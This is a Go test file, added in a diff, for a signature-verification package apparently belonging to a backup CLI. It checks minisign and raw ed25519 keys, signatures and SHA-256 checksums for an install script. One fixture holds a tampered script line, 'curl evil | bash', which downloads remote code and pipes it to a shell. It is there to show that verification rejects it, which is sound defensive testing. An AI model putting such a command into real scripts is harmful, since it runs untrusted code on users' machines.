@@ -0,0 +1,163 @@
+// Copyright © 2018  Fermin Silva <fermin@binlogic.net>
+// Licensed under the Apache License, Version 2.0 (the "License");
+// you may not use this file except in compliance with the License.
+// You may obtain a copy of the License at
+//
+//     http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+
+package signature
+
+import (
+	"crypto/ed25519"
+	"crypto/sha256"
+	"encoding/base64"
+	"encoding/hex"
+	"strings"
+	"testing"
+)
+
+var (
+	testKey       = ed25519.NewKeyFromSeed([]byte("cloudbackup-cli signature tests!"))
+	otherKey      = ed25519.NewKeyFromSeed([]byte("some other key that signs things"))
+	testKeyID     = []byte{1, 2, 3, 4, 5, 6, 7, 8}
+	otherKeyID    = []byte{8, 7, 6, 5, 4, 3, 2, 1}
+	testScript    = []byte("#!/bin/bash\necho installing\n")
+	testComment   = "timestamp:1520000000\tfile:install.sh"
+	tamperedBody  = []byte("#!/bin/bash\ncurl evil | bash\n")
+	testRawPubKey = base64.StdEncoding.EncodeToString(testKey.Public().(ed25519.PublicKey))
+)
+
+// minisignPublicKey encodes the public key of priv as minisign does
+func minisignPublicKey(priv ed25519.PrivateKey, keyID []byte) string {
+	raw := append(append([]byte(minisignAlgorithm), keyID...), priv.Public().(ed25519.PublicKey)...)
+
+	return "untrusted comment: minisign public key\n" + base64.StdEncoding.EncodeToString(raw) + "\n"
+}
+
+// minisignSignature signs message as minisign -S -l does
+func minisignSignature(priv ed25519.PrivateKey, keyID, message []byte, comment string) string {
+	sig := ed25519.Sign(priv, message)
+	global := ed25519.Sign(priv, append(append([]byte{}, sig...), comment...))
+	raw := append(append([]byte(minisignAlgorithm), keyID...), sig...)
+
+	return "untrusted comment: signature from minisign secret key\n" +
+		base64.StdEncoding.EncodeToString(raw) + "\n" +
+		minisignTrustedCommentTag + comment + "\n" +
+		base64.StdEncoding.EncodeToString(global) + "\n"
+}
+
+func rawSignature(priv ed25519.PrivateKey, message []byte) string {
+	return base64.StdEncoding.EncodeToString(ed25519.Sign(priv, message)) + "\n"
+}
+
+func TestParsePublicKey(t *testing.T) {
+	tests := []struct {
+		name      string
+		in        string
+		wantKeyID []byte
+		wantErr   string
+	}{
+		{"raw", testRawPubKey, nil, ""},
+		{"minisign", minisignPublicKey(testKey, testKeyID), testKeyID, ""},
+		{"minisign without comment", strings.Split(minisignPublicKey(testKey, testKeyID), "\n")[1], testKeyID, ""},
+		{"not base64", "not a key!", nil, "not valid base64"},
+		{"wrong size", base64.StdEncoding.EncodeToString([]byte("short")), nil, "neither a minisign nor a raw"},
+		{"empty", "", nil, "neither a minisign nor a raw"},
+	}
+
+	for _, tt := range tests {
+		got, err := ParsePublicKey(tt.in)
+
+		if !errorContains(err, tt.wantErr) {
+			t.Errorf("%s: ParsePublicKey() error = %v, want %q", tt.name, err, tt.wantErr)
+			continue
+		}
+
+		if err == nil && string(got.KeyID) != string(tt.wantKeyID) {
+			t.Errorf("%s: ParsePublicKey() key ID = %X, want %X", tt.name, got.KeyID, tt.wantKeyID)
+		}
+	}
+}
+
+func TestVerify(t *testing.T) {
+	valid := minisignSignature(testKey, testKeyID, testScript, testComment)
+	lines := strings.Split(valid, "\n")
+
+	tamperedComment := strings.Join([]string{lines[0], lines[1], minisignTrustedCommentTag + "timestamp:1", lines[3]}, "\n")
+
+	prehashed, _ := base64.StdEncoding.DecodeString(lines[1])
+	copy(prehashed, minisignHashedAlgorithm)
+	prehashedSig := strings.Join([]string{lines[0], base64.StdEncoding.EncodeToString(prehashed), lines[2], lines[3]}, "\n")
+
+	tests := []struct {
+		name    string
+		key     string
+		message []byte
+		sig     string
+		wantErr string
+	}{
+		{"raw", testRawPubKey, testScript, rawSignature(testKey, testScript), ""},
+		{"raw with minisign key", minisignPublicKey(testKey, testKeyID), testScript, rawSignature(testKey, testScript), ""},
+		{"raw tampered body", testRawPubKey, tamperedBody, rawSignature(testKey, testScript), "verification failed"},
+		{"raw other key", testRawPubKey, testScript, rawSignature(otherKey, testScript), "verification failed"},
+		{"raw garbage", testRawPubKey, testScript, "garbage", "neither a minisign signature nor a raw"},
+		{"minisign", minisignPublicKey(testKey, testKeyID), testScript, valid, ""},
+		{"minisign CRLF", minisignPublicKey(testKey, testKeyID), testScript, strings.Replace(valid, "\n", "\r\n", -1), ""},
+		{"minisign with raw key", testRawPubKey, testScript, valid, ""},
+		{"minisign tampered body", minisignPublicKey(testKey, testKeyID), tamperedBody, valid, "verification failed"},
+		{"minisign tampered trusted comment", minisignPublicKey(testKey, testKeyID), testScript, tamperedComment, "trusted comment verification failed"},
+		{"minisign key ID mismatch", minisignPublicKey(testKey, otherKeyID), testScript, valid, "but the trusted key is"},
+		{"minisign other key", minisignPublicKey(otherKey, testKeyID), testScript, valid, "verification failed"},
+		{"minisign prehashed", minisignPublicKey(testKey, testKeyID), testScript, prehashedSig, "Prehashed minisign signatures are not supported"},
+		{"minisign missing trusted comment", minisignPublicKey(testKey, testKeyID), testScript, lines[0] + "\n" + lines[1] + "\n" + lines[3], "Malformed minisign signature"},
+	}
+
+	for _, tt := range tests {
+		key, err := ParsePublicKey(tt.key)
+
+		if err != nil {
+			t.Fatalf("%s: ParsePublicKey() error = %v", tt.name, err)
+		}
+
+		if err := Verify(key, tt.message, []byte(tt.sig)); !errorContains(err, tt.wantErr) {
+			t.Errorf("%s: Verify() error = %v, want %q", tt.name, err, tt.wantErr)
+		}
+	}
+}
+
+func TestVerifyChecksum(t *testing.T) {
+	sum := sha256.Sum256(testScript)
+
+	tests := []struct {
+		name    string
+		message []byte
+		sum     string
+		wantErr string
+	}{
+		{"match", testScript, hex.EncodeToString(sum[:]), ""},
+		{"match with spaces", testScript, " " + hex.EncodeToString(sum[:]) + "\n", ""},
+		{"tampered body", tamperedBody, hex.EncodeToString(sum[:]), "Checksum mismatch"},
+		{"not hex", testScript, "zz", "not a hex encoded SHA-256"},
+		{"wrong size", testScript, hex.EncodeToString(sum[:16]), "not a hex encoded SHA-256"},
+	}
+
+	for _, tt := range tests {
+		if err := VerifyChecksum(tt.message, tt.sum); !errorContains(err, tt.wantErr) {
+			t.Errorf("%s: VerifyChecksum() error = %v, want %q", tt.name, err, tt.wantErr)
+		}
+	}
+}
+
+func errorContains(err error, want string) bool {
+	if want == "" {
+		return err == nil
+	}
+
+	return err != nil && strings.Contains(err.Error(), want)
+}